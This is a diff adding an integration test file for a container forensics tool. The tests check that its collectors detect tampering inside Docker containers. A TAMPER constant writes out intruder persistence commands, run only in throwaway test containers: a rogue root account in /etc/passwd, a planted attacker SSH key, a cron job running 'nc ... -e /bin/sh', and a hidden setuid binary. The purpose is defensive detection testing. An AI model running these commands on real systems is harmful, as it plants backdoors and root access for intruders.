@@ -1,0 +1,136 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ContainerEvidenceSchema } from '../../../shared/domain/evidence-set.js';
+import { collectContainerEvidence } from '../../../electron/engine/collect/container-evidence.js';
+import { collectEngineEvidence } from '../../../electron/engine/collect/engine-evidence.js';
+import { mapApiChanges } from '../../../electron/engine/collect/file-changes.js';
+import { docker, removeSuite, runContainer } from '../../helpers/docker.js';
+import { waitForExit, waitForFile } from './wait.js';
+
+const SUITE = 'collect-files';
+const ATTRS = 'stowaway-test/attrs:1';
+
+/** Persistence an intruder leaves: an extra root account, an ssh key, a cron job, a removed file. */
+const TAMPER = [
+  'echo "evil:x:0:0::/root:/bin/sh" >> /etc/passwd',
+  'mkdir -p /root/.ssh /etc/cron.d',
+  'echo "ssh-ed25519 AAAAC3Nza attacker@c2" > /root/.ssh/authorized_keys',
+  'printf "* * * * * root nc 127.0.0.1 4444 -e /bin/sh\\n" > /etc/cron.d/evil',
+  'rm /etc/group',
+  'cp /bin/busybox /tmp/.hidden-tool && chmod 4755 /tmp/.hidden-tool',
+].join(' && ');
+
+describe('file collectors (host-side layers vs Engine API)', () => {
+  let running = '';
+  let stopped = '';
+  let attrs = '';
+  let clean = '';
+  beforeAll(async () => {
+    await removeSuite(SUITE);
+    clean = (await runContainer({ suite: SUITE, name: `sw-col-clean-${process.pid}` })).id;
+    running = (await runContainer({ suite: SUITE, name: `sw-col-files-${process.pid}`, cmd: ['sh', '-c', `${TAMPER} && touch /tmp/ready && sleep 3600`] })).id;
+    stopped = (await runContainer({ suite: SUITE, name: `sw-col-stopped-${process.pid}`, cmd: ['sh', '-c', TAMPER] })).id;
+    attrs = (
+      await runContainer({
+        suite: SUITE,
+        image: ATTRS,
+        name: `sw-col-attrs-${process.pid}`,
+        hostConfig: { CapAdd: ['LINUX_IMMUTABLE'] },
+        cmd: ['sh', '-c', 'echo keep > /tmp/imm && chattr +i /tmp/imm && echo log > /tmp/app && chattr +a /tmp/app && touch /tmp/ready && sleep 3600'],
+      })
+    ).id;
+    await Promise.all([waitForFile(running, '/tmp/ready'), waitForExit(stopped), waitForFile(attrs, '/tmp/ready')]);
+  }, 60_000);
+  afterAll(() => removeSuite(SUITE));
+
+  it('reads the diff from the upper dir exactly as the Engine API reports it, with hashes and flags', async () => {
+    const ev = ContainerEvidenceSchema.parse(await collectContainerEvidence(docker, running, { engineId: 'local', local: true }));
+    expect(ev.access).toBe('host');
+    const api = mapApiChanges(await docker.getContainer(running).changes());
+    const asMap = (l: { path: string; kind: string }[]) => Object.fromEntries(l.map((c) => [c.path, c.kind]));
+    expect(asMap(ev.files)).toEqual(asMap(api));
+    const byPath = new Map(ev.files.map((f) => [f.path, f]));
+    expect(byPath.get('/etc/passwd')).toMatchObject({ kind: 'changed' });
+    expect(byPath.get('/etc/group')).toMatchObject({ kind: 'deleted' });
+    expect(byPath.get('/root/.ssh/authorized_keys')).toMatchObject({ kind: 'added' });
+    expect(byPath.get('/tmp/.hidden-tool')!.flags).toEqual(expect.arrayContaining(['elf', 'setuid', 'executable', 'hidden']));
+    expect(byPath.get('/tmp/.hidden-tool')!.sha256).toMatch(/^[0-9a-f]{64}$/);
+    expect(ev.artifacts.some((a) => a.kind === 'changes' && a.sourceCall.startsWith('host:'))).toBe(true);
+  });
+
+  it('reads critical files with the hash of the image version beside the changed one', async () => {
+    const ev = await collectContainerEvidence(docker, running, { engineId: 'local', local: true });
+    const passwd = ev.fileContents.find((c) => c.path === '/etc/passwd')!;
+    expect(passwd.text).toContain('evil:x:0:0');
+    expect(passwd.imageSha256).toMatch(/^[0-9a-f]{64}$/);
+    expect(passwd.imageSha256).not.toBe(passwd.sha256);
+    const shadow = ev.fileContents.find((c) => c.path === '/etc/shadow')!;
+    expect(shadow.imageSha256).toBe(shadow.sha256);
+    expect(ev.fileContents.find((c) => c.path === '/root/.ssh/authorized_keys')?.text).toContain('attacker@c2');
+    expect(ev.fileContents.find((c) => c.path === '/etc/cron.d/evil')?.text).toContain('nc 127.0.0.1 4444');
+    expect(ev.fileContents.some((c) => c.path === '/etc/group')).toBe(false);
+  });
+
+  it('gives the same contents through the archive endpoint when host-side reads are off', async () => {
+    const host = await collectContainerEvidence(docker, running, { engineId: 'local', local: true });
+    const api = await collectContainerEvidence(docker, running, { engineId: 'local', local: false });
+    expect(api.access).toBe('api');
+    expect(api.processes.host?.source).toMatch(/top/);
+    const sha = (ev: typeof api, p: string) => ev.fileContents.find((c) => c.path === p)?.sha256;
+    for (const p of ['/etc/passwd', '/etc/shadow', '/root/.ssh/authorized_keys', '/etc/cron.d/evil']) expect(sha(api, p), p).toBe(sha(host, p));
+    expect(api.files.find((f) => f.path === '/etc/passwd')?.sha256).toBe(sha(host, '/etc/passwd'));
+    expect(api.artifacts.some((a) => a.sourceCall.includes('/archive?path=/etc'))).toBe(true);
+  });
+
+  it('reads untouched files once per image through the archive endpoint and still sees each container changes', async () => {
+    const engine = { id: 'local', name: 'local', endpoint: 'unix:///var/run/docker.sock', local: false };
+    for (const order of [
+      [clean, running],
+      [running, clean],
+    ]) {
+      const api = await collectEngineEvidence(docker, { engine, local: false, concurrency: 1, containerIds: order, since: '1m' });
+      const host = await collectEngineEvidence(docker, { engine: { ...engine, local: true }, local: true, containerIds: order, since: '1m' });
+      for (const id of order) {
+        const a = api.containers.find((c) => c.container.id === id)!;
+        const h = host.containers.find((c) => c.container.id === id)!;
+        const pick = (ev: typeof a) => ev.fileContents.map((c) => [c.path, c.sha256]).sort();
+        expect(pick(a), id === clean ? 'clean' : 'tampered').toEqual(pick(h));
+      }
+      const tampered = api.containers.find((c) => c.container.id === running)!.fileContents.find((c) => c.path === '/etc/passwd')!;
+      const untouched = api.containers.find((c) => c.container.id === clean)!.fileContents.find((c) => c.path === '/etc/passwd')!;
+      expect(tampered.text).toContain('evil:x:0:0');
+      expect(untouched.text).not.toContain('evil');
+      // The image version comes from the shared read when the clean container went first.
+      if (order[0] === clean) expect(tampered.imageSha256).toBe(untouched.sha256);
+      const calls = api.containers.flatMap((c) => c.artifacts.filter((x) => x.kind === 'archive'));
+      expect(calls.length).toBeGreaterThan(0);
+    }
+  });
+
+  it('collects a stopped container from its layers and through the archive endpoint', async () => {
+    for (const local of [true, false]) {
+      const ev = await collectContainerEvidence(docker, stopped, { engineId: 'local', local });
+      expect(ev.container.state).toBe('exited');
+      expect(ev.processes.host).toBeUndefined();
+      expect(ev.files.map((f) => f.path)).toContain('/etc/cron.d/evil');
+      expect(ev.fileContents.find((c) => c.path === '/etc/passwd')?.text, `local=${local}`).toContain('evil:x:0:0');
+      expect(ev.errors).toEqual([]);
+    }
+  });
+
+  it('sees immutable and append-only flags set inside the container', async () => {
+    const ev = await collectContainerEvidence(docker, attrs, { engineId: 'local', local: true });
+    const flags = (p: string) => ev.files.find((f) => f.path === p)?.flags ?? [];
+    expect(flags('/tmp/imm')).toContain('immutable');
+    expect(flags('/tmp/app')).toContain('append-only');
+    expect(flags('/tmp/ready')).not.toContain('immutable');
+    expect(ev.artifacts.some((a) => a.kind === 'attrs')).toBe(true);
+  });
+
+  it('reads the flags with the container own lsattr only when exec is allowed and the host cannot', async () => {
+    const plain = await collectContainerEvidence(docker, attrs, { engineId: 'local', local: false });
+    expect(plain.files.find((f) => f.path === '/tmp/imm')?.flags ?? []).not.toContain('immutable');
+    const viaExec = await collectContainerEvidence(docker, attrs, { engineId: 'local', local: false, exec: true });
+    expect(viaExec.files.find((f) => f.path === '/tmp/imm')?.flags).toContain('immutable');
+    expect(viaExec.files.find((f) => f.path === '/tmp/app')?.flags).toContain('append-only');
+  });
+});
